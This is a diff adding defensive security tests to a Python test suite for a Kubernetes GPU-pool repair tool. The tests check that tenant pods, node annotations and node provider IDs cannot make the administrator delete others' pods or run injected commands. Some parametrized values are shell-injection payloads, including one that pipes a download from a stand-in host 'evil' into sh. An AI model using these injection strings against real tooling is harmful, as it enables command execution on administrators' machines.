@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import datetime as dt
+import shlex
+from dataclasses import replace
 from pathlib import Path
 from typing import Any, Final
 
@@ -15,9 +17,10 @@ from gpu_pools.repairing.exchanging import commands
 from gpu_pools.repairing.looking import Looker, NoNodeError, being_changed
 from gpu_pools.repairing.repair import Manner, Repair, RepairError
 from gpu_pools.repairing.rights import Right, missing, needed
+from gpu_pools.repairing.steps import begun
 from gpu_pools.repairing.telling import found_text, plan_text
 from gpu_pools.repairing.through_kubectl import ThroughKubectl, _refusal
-from gpu_pools.repairing.ways import Way, chosen
+from gpu_pools.repairing.ways import APPS, Finding, Way, chosen
 from gpu_pools.text.programs import Said
 from gpu_pools.verifier.api import ApiError
 from tests.evidence import fleets
@@ -28,7 +31,7 @@ MANNER: Final = Manner(600, "stop", 3600, 900)
 
 def pod(name: str, namespace: str = "default", owner: str = "", app: str = "", gpus: int = 0, **status: Any) -> dict[str, Any]:
     limits = {"nvidia.com/gpu": str(gpus)} if gpus else {}
-    owners = [{"kind": owner, "controller": True}] if owner else []
+    owners = [{"kind": owner, "name": "agents", "uid": f"agents-of-{namespace}", "controller": True}] if owner else []
     metadata = {"name": name, "namespace": namespace, "uid": f"uid-{name}", "labels": {"app": app}, "ownerReferences": owners}
     return {"metadata": metadata, "spec": {"containers": [{"resources": {"limits": limits}}]}, "status": status}
 
@@ -50,10 +53,13 @@ class Served:
 
     def __init__(self, fleet: fleets.Fleet, allowed: frozenset[str] = frozenset()) -> None:
         self.fleet, self.allowed, self.reviewed = fleet, allowed, []  # type: ignore[var-annotated]
+        self.pods = PODS
 
     def get(self, path: str, **query: str) -> dict[str, Any]:
         if path == "/api/v1/pods":
-            return {"items": PODS}
+            return {"items": self.pods}
+        if path.endswith("/daemonsets/agents"):
+            return {"metadata": {"uid": f"agents-of-{path.split('/')[5]}"}}
         if path == "/api/v1/nodes":
             key, _, value = query["labelSelector"].partition("=")
             return {"items": [node for node in self.fleet.nodes if node["metadata"]["labels"].get(key) == value]}
@@ -176,6 +182,52 @@ def test_a_node_in_its_turn_is_known_by_the_changer_s_mark() -> None:
     assert being_changed(fleet.node("mig")) == '{"to": "x"}'
 
 
+# --- pods of others ---------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("app", sorted(APPS.values()))
+def test_a_label_makes_nobody_one_of_the_operator(app: str) -> None:
+    """Attack: a tenant's pod with an operand's label, in a namespace before the operator's: its whole namespace was not drained,
+    and the pod was deleted with the administrator's rights.
+    """
+    one = looker(fleets.fleet())
+    tenant = [pod("x", "a-team", app=app, gpus=1), pod("owned", "a-team", "DaemonSet", app), pod("y", "a-team", gpus=1)]
+    inside = [pod("bare", "gpu-operator", "", app)]
+    one.api.pods = [*tenant, *inside, *PODS]  # type: ignore[attr-defined]
+    look = one.look()
+    assert [holder.name for holder in look.seen.holders] == ["x", "y", "trains"]
+    for way in APPS:
+        started = {item["metadata"]["name"] for item in look.starting((way,), "gpu-pools-verifier")}
+        assert started <= {"plugin", "mig", "verifies"}
+    assert one.living(look).operators == "gpu-operator"
+
+
+def test_a_mark_starts_no_pods_of_others_anew() -> None:
+    """Attack: the kubelet of a node writes the mark of a repair with uids of whatever pods the administrator is to delete."""
+    fleet = fleets.fleet()
+    mark = begun((Way.PLUGIN,), ("uid-trains", "uid-plugin", "uid-web"), looker(fleet).look().seen, "now")
+    fleet.node("mig")["metadata"]["annotations"]["gpu-pools/repair"] = mark.text()
+    assert looker(fleet).look().seen.starting == ("uid-plugin",)
+
+
+def test_a_report_names_no_pods_of_others_as_stuck() -> None:
+    """Attack: root on a node writes a report that says a tenant's pod is the operator's stuck one."""
+    one = _broken(fleets.fleet(), "mig-layout")
+    stuck = tuple(Finding("config-wedged", f"pod {name}", "", "") for name in ("default/trains", "gpu-operator/plugin"))
+    look = replace(one.look(), findings=stuck)
+    assert [item["metadata"]["name"] for item in look.starting((Way.POD,), "x")] == ["plugin"]
+
+
+@pytest.mark.parametrize("count", ["1k", "two", None])
+def test_no_amount_of_a_pod_ends_a_repair(count: object) -> None:
+    """Attack: `nvidia.com/gpu: 1k` in a pod of the node ended the command with a traceback."""
+    one = looker(fleets.fleet())
+    odd = pod("odd", "tenant")
+    odd["spec"]["containers"][0]["resources"]["limits"] = {"nvidia.com/gpu": count}
+    one.api.pods = [odd, {"metadata": None}, *PODS]  # type: ignore[attr-defined]
+    assert [holder.name for holder in one.look().seen.holders] == ["odd", "unknown", "trains"]
+
+
 # --- told before it is done -------------------------------------------------------------------------------
 
 
@@ -236,39 +288,78 @@ GROUP: Final = {
     "ignoreChanges": ["nodeCount"],
 }
 AKS_NODE: Final = {"metadata": {"name": "aks-nb-vmss000001", "labels": {"kubernetes.azure.com/agentpool": "nb"}}}
-SERVER_NODE: Final = {"metadata": {"name": "nb-1"}, "spec": {"providerID": "openstack:///s-1"}}
+SERVER: Final = "0b8d0c5e-5b0f-4c6e-9a53-6f0f5a3c1d2e"
+SERVER_NODE: Final = {"metadata": {"name": "nb-1"}, "spec": {"providerID": f"openstack:///{SERVER}"}}
 
 
 def test_the_commands_have_what_the_state_has() -> None:
-    machine, again = commands("shop", [GROUP, AKS], "pool", AKS_NODE)
+    machine, again = commands("shop", [GROUP, AKS], "pool", AKS_NODE, [AKS_NODE])
     assert machine == (
         "az aks nodepool delete-machines --resource-group rg --cluster-name dev --name nb --machine-names aks-nb-vmss000001"
     )
     assert again.startswith("pulumi up --refresh --stack shop")
     scaled = {**AKS, "inputs": {**AKS["inputs"], "enableAutoScaling": True}}  # type: ignore[dict-item]
-    assert len(commands("shop", [scaled], "pool", AKS_NODE)) == 1, "the autoscaler brings another"
+    assert len(commands("shop", [scaled], "pool", AKS_NODE, [AKS_NODE])) == 1, "the autoscaler brings another"
 
 
 def test_a_magnum_group_that_took_another_s_place_is_found_by_what_its_nodes_say() -> None:
     called = {**GROUP, "inputs": {**GROUP["inputs"], "name": "nb-0a1b2c"}}  # type: ignore[dict-item]
     labels = {"magnum.openstack.org/nodegroup": "nb-0a1b2c"}
     node = {**SERVER_NODE, "metadata": {"name": "nb-1", "labels": labels}}
-    _, resize = commands("shop", [GROUP, called], "nb", node)
+    _, _, resize = commands("shop", [GROUP, called], "nb", node, [node])
     assert "--nodegroup nb-0a1b2c " in resize
 
 
 def test_the_number_of_a_magnum_group_is_not_the_state_s() -> None:
-    show, resize = commands("shop", [AKS, GROUP], "nb", SERVER_NODE)
+    name, show, resize = commands("shop", [AKS, GROUP], "nb", SERVER_NODE, [SERVER_NODE])
+    assert name.startswith(f"openstack server show {SERVER} -f value -c name        # has to say nb-1: if it does not, stop")
     assert show.startswith("openstack coe nodegroup show c-1 nb -f value -c node_count")
-    assert resize == "openstack coe cluster resize --nodegroup nb --nodes-to-remove s-1 c-1 COUNT"
-    assert "6" not in show + resize
+    assert resize == f"openstack coe cluster resize --nodegroup nb --nodes-to-remove {SERVER} c-1 COUNT"
+    assert "6" not in (show + resize).replace(SERVER, "")
     fixed = {**GROUP, "ignoreChanges": []}
-    assert commands("shop", [fixed], "nb", SERVER_NODE)[-1].startswith("pulumi up --refresh")
-    assert "openstack server show nb-1" in commands("shop", [fixed], "nb", {"metadata": {"name": "nb-1"}})[0]
+    assert commands("shop", [fixed], "nb", SERVER_NODE, [SERVER_NODE])[-1].startswith("pulumi up --refresh")
+    assert "openstack server show nb-1" in commands("shop", [fixed], "nb", {"metadata": {"name": "nb-1"}}, [])[0]
+
+
+@pytest.mark.parametrize(
+    "provider_id",
+    [
+        "openstack:///;curl${IFS}evil|sh;#",
+        "openstack:///$(id>&2)",
+        f"openstack:///{SERVER}\n; id",
+        "openstack:///11111111-OTHER-SERVER",
+        f"openstack:///{SERVER} {SERVER[:-1]}0",
+        f"aws:///{SERVER}",
+        "openstack:///--help",
+    ],
+)
+def test_a_node_puts_no_words_into_the_commands_of_its_administrator(provider_id: str) -> None:
+    """Attack: a kubelet registers its node with a provider id that is a shell command, or another machine's."""
+    node = {**SERVER_NODE, "spec": {"providerID": provider_id}}
+    first, _, resize, *_ = commands("shop", [GROUP], "nb", node, [node])
+    assert first == "openstack server show nb-1 -f value -c id        # this is SERVER"
+    assert resize == "openstack coe cluster resize --nodegroup nb --nodes-to-remove SERVER c-1 COUNT"
+
+
+def test_a_node_that_says_it_is_another_one_of_the_cluster_is_not_believed() -> None:
+    """Attack: a node registers with the provider id of another node of the cluster, which would be deleted in its place."""
+    other = {"metadata": {"name": "nb-2"}, "spec": SERVER_NODE["spec"]}
+    first, _, resize, *_ = commands("shop", [GROUP], "nb", SERVER_NODE, [SERVER_NODE, other])
+    assert "this is SERVER" in first
+    assert SERVER not in first + resize
+
+
+def test_every_word_of_a_command_is_quoted() -> None:
+    """Names of groups come from a cloud, and Azure takes brackets in those of resource groups."""
+    odd = {**AKS, "inputs": {**AKS["inputs"], "resourceGroupName": "rg(1); id"}}  # type: ignore[dict-item]
+    assert shlex.split(commands("$(id)", [odd], "pool", AKS_NODE, [])[0])[5] == "rg(1); id"
+    assert "--stack '$(id)'" in commands("$(id)", [odd], "pool", AKS_NODE, [])[-1]
+    group = {**GROUP, "inputs": {**GROUP["inputs"], "clusterId": "`id`"}}  # type: ignore[dict-item]
+    assert all("'`id`'" in line for line in commands("shop", [group], "nb", SERVER_NODE, [])[1:3])
 
 
 def test_a_machine_that_the_stack_does_not_have_is_its_owner_s() -> None:
-    assert commands("shop", [AKS], "other", SERVER_NODE) == ()
+    assert commands("shop", [AKS], "other", SERVER_NODE, []) == ()
     one = looker(fleets.fleet())
     assert "ask the cluster's owner" in plan_text(one.look(), (Way.REPLACE,), MANNER, (), one.pool("mig"), ())
 
